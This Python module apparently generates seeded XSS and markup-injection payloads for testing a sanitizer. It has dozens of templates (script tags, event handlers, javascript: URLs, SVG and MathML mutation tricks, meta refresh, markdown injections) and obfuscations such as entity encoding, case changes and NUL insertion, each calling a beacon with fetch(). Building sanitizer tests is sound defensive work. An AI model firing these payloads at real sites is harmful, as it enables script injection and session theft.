"""Seeded markup that would run, fetch or open something if it got through: templates, wrappers, disguises."""

from __future__ import annotations

import random
from collections.abc import Iterator
from html import escape

# {B} is the beacon's address, {J} a script that calls it.
TEMPLATES = (
    "<script>{J}</script>",
    "<script src={B}></script>",
    "<img src=x onerror=\"{J}\">",
    "<img src={B}>",
    "<img srcset='{B} 1x'>",
    "<picture><source srcset={B}><img src=x></picture>",
    "<svg onload=\"{J}\"></svg>",
    "<svg><script>{J}</script></svg>",
    "<svg><image href={B} /></svg>",
    "<svg><a xlink:href=\"javascript:{J}\"><text y=20>x</text></a></svg>",
    "<svg><animate attributeName=href onbegin=\"{J}\" dur=1s /></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href='{B}'/></svg>#x\">",
    "<math><mtext><mglyph><style><img src=x onerror=\"{J}\"></style></mglyph></mtext></math>",
    "<iframe src={B}></iframe>",
    "<iframe srcdoc=\"<script>{J}</script>\"></iframe>",
    "<object data={B}></object>",
    "<embed src={B}>",
    "<video src={B} autoplay></video>",
    "<video><source onerror=\"{J}\"></video>",
    "<audio src={B} autoplay></audio>",
    "<link rel=stylesheet href={B}>",
    "<link rel=prefetch href={B}>",
    "<link rel=icon href={B}>",
    "<style>@import '{B}';</style>",
    "<style>body{{background:url({B})}}</style>",
    "<p style=\"background:url({B})\">x</p>",
    "<body background={B} onload=\"{J}\">",
    "<table background={B}><tr><td background={B}>x</table>",
    "<input type=image src={B} onfocus=\"{J}\" autofocus>",
    "<form action={B}><button formaction=\"javascript:{J}\">x</button></form>",
    "<details open ontoggle=\"{J}\"><summary>x</summary></details>",
    "<marquee onstart=\"{J}\">x</marquee>",
    "<base href={B}>",
    "<meta http-equiv=refresh content=\"0;url={B}\">",
    "<meta http-equiv=refresh content=\"0;url=javascript:{J}\">",
    "<a href=\"javascript:{J}\">x</a>",
    "<a href=\"data:text/html,<script>{J}</script>\">x</a>",
    "<a href=\"vbscript:{J}\">x</a>",
    "<a href={B} ping={B}>x</a>",
    "<a href=x onmouseover=\"{J}\">x</a>",
    "<b onmouseover=\"{J}\" onfocus=\"{J}\" tabindex=1>x</b>",
    "<noscript><p title=\"</noscript><img src=x onerror={J}>\"></noscript>",
    "<template><script>{J}</script></template>",
    "<textarea></textarea><script>{J}</script>",
    "<xmp><p title=\"</xmp><img src=x onerror={J}>\"></xmp>",
    "<select><template><style><!--</style><a rel=\"--></style></template></select><img src=x onerror={J}>\">",
    "<![CDATA[><img src=x onerror={J}>]]>",
    "<?xml-stylesheet href={B}?><img src=x onerror={J}>",
    "<!--><img src=x onerror={J}>-->",
    "<dialog open onclose={J}><form method=dialog>",
    "<portal src={B}></portal>",
    "<img src=\"file:///etc/hostname\">",
    "[x](javascript:{J})",
    "![x]({B})",
    "![x](x\"onerror=\"{J})",
    "[x]: {B}\n\n![x]",
    "<javascript:{J}>",
    "<{B}>",
    "[a](<javascript:{J}>)",
    "{{{{< ref \"{B}\" >}}}}",
    "{{% include '{B}' %}}",
    "{{: onclick={J} }}",
    "# x {{#x onmouseover={J}}}",
    "https://x.example/\"onmouseover=\"{J}",
    "javascript:{J}",
    "{B}",
)  # fmt: skip

_BEFORE = (
    "",
    '">',
    "'>",
    "-->",
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "]]>",
    "\n\n",
    "*/",
    "`",
    "\u2028",
    "</p>",
)
_AROUND = (
    *("{}", "<b>{}</b>", "<table><tr><td>{}</td></tr></table>", "<div>{}", "<svg>{}</svg>", "<math>{}</math>"),
    *("<noscript>{}</noscript>", "<blockquote><p>{}</p></blockquote>", "<ul><li>{}</ul>", "<h2>{}</h2>"),
    *("<figure><figcaption>{}</figcaption></figure>", "<a href=https://x.example>{}</a>", "<template>{}</template>"),
)


def _case(text: str, chance: random.Random) -> str:
    return "".join(
        letter.swapcase() if chance.random() < 0.3 and letter in "scriptonrjav" else letter for letter in text
    )


def _spaces(text: str, chance: random.Random) -> str:
    return text.replace(" on", chance.choice("\t\n\f/") + "on").replace(":", chance.choice((":", "\t:", "&colon;")), 1)


def _entities(text: str, chance: random.Random) -> str:
    return "".join(f"&#{ord(letter)};" if chance.random() < 0.25 and letter.isalpha() else letter for letter in text)


def _nul(text: str, chance: random.Random) -> str:
    at = chance.randrange(len(text))
    return text[:at] + chance.choice("\0\x01\x0b\u200b\ufeff") + text[at:]


def _twice(text: str, chance: random.Random) -> str:
    return text.replace("<", chance.choice(("<<", "<\0", "&lt;", "%3C", "\\<", "＜")), 1)


def _escaped(text: str, chance: random.Random) -> str:
    return escape(text)


def _cut(text: str, chance: random.Random) -> str:
    return text[: -chance.randrange(1, 4)]


_DISGUISES = (lambda text, chance: text, _case, _spaces, _entities, _nul, _twice, _escaped, _cut)


def vectors(n: int, seed: int, beacon: str) -> Iterator[str]:
    """So many, each with a number of its own in the beacon's address. The templates come first as they are."""
    chance = random.Random(seed)
    for number in range(n):
        address = f"{beacon}/{number}"
        script = f"window.owned=1;fetch('{address}')"
        template = TEMPLATES[number % len(TEMPLATES)]
        vector = template.format(B=address, J=script)
        if number >= len(TEMPLATES):
            vector = chance.choice(_DISGUISES)(vector, chance)
            vector = chance.choice(_BEFORE) + chance.choice(_AROUND).format(vector)
        yield vector
